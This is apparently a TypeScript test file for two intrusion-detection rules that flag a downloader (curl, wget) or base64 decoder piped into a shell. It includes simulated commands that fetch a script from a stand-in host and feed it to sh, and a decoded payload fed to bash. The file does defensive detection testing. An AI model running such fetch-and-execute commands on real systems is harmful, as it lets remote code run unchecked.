// download-pipe-to-shell and decoded-pipe-to-shell: a shell reading stdin started beside
// a downloader or a decoder by the same parent, in either order.
import assert from 'node:assert/strict';
import download from '../../../models/rules/download-pipe-to-shell/rule.ts';
import decoded from '../../../models/rules/decoded-pipe-to-shell/rule.ts';
import { assertRuleShape, exec, learnThenStable, none, one, testEngine, T0 } from '../../support/events.ts';
import type { EventOf } from '../../../collector/event.ts';

const engine = () => testEngine({ rules: [download, decoded] });
/** an exec by child `pid` of `ppid` at T0 + ms */
const child = (exe: string, args: string[], pid: number, ppid: number, ms = 0): EventOf<'exec'> => {
  const ev = exec(exe, { args, pid, time: T0 + ms });
  return { ...ev, process: { ...ev.process, ppid } };
};

describe('rules/download-pipe-to-shell and decoded-pipe-to-shell', () => {
  it('shapes', () => {
    assertRuleShape(download, 'download-pipe-to-shell');
    assertRuleShape(decoded, 'decoded-pipe-to-shell');
    assert.equal(download.mitre.technique, 'T1105');
    assert.equal(decoded.mitre.technique, 'T1140');
  });

  it('curl | sh alerts whichever side execs first', () => {
    const e = engine();
    none(e, child('/usr/bin/curl', ['curl', '-s', 'http://127.66.6.6/i.sh'], 101, 100), T0);
    const a = one(e, child('/usr/bin/dash', ['sh'], 102, 100, 2), T0);
    assert.equal(a.rule, 'download-pipe-to-shell');
    assert.match(a.summary, /curl http:\/\/127\.66\.6\.6\/i\.sh piped into sh/);
    const e2 = engine();
    none(e2, child('/usr/bin/bash', ['bash', '-s'], 202, 200), T0);
    assert.equal(one(e2, child('/usr/bin/wget', ['wget', '-qO-', 'http://x/y'], 201, 200, 1), T0).rule, 'download-pipe-to-shell');
  });

  it('echo … | base64 -d | bash alerts as a decoded script', () => {
    const e = engine();
    none(e, child('/usr/bin/base64', ['base64', '-d'], 301, 300), T0);
    const a = one(e, child('/usr/bin/bash', ['bash'], 302, 300, 1), T0);
    assert.equal(a.rule, 'decoded-pipe-to-shell');
    assert.match(a.summary, /base64 -d piped into bash/);
  });

  it('fires although the workload runs curl and sh every day; other shapes do not', () => {
    const e = engine();
    const t = learnThenStable(e, [child('/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://svc/'], 11, 10), child('/usr/bin/dash', ['sh', '-c', 'date'], 12, 10)]);
    // curl then a shell running a command or a script, or a shell in another branch: no pipe
    none(e, child('/usr/bin/curl', ['curl', 'http://svc/'], 21, 20), t);
    none(e, child('/usr/bin/dash', ['sh', '-c', 'date'], 22, 20, 1), t);
    none(e, child('/usr/bin/dash', ['sh', '/app/run.sh'], 23, 20, 2), t);
    none(e, child('/usr/bin/dash', ['sh'], 31, 30, 3), t);
    // base64 encoding (no -d), and a shell half a second later, are not a decoded pipe
    none(e, child('/usr/bin/base64', ['base64', '/etc/hostname'], 41, 40, 4), t);
    none(e, child('/usr/bin/dash', ['sh'], 42, 40, 5), t);
    none(e, child('/usr/bin/base64', ['base64', '-d'], 51, 50, 10), t);
    none(e, child('/usr/bin/dash', ['sh'], 52, 50, 700), t);
    // and then the real thing, in the same workload
    none(e, child('/usr/bin/curl', ['curl', '-fsSL', 'http://127.66.6.6/x'], 61, 60, 800), t);
    one(e, child('/usr/bin/dash', ['sh'], 62, 60, 801), t + 1);
  });
});
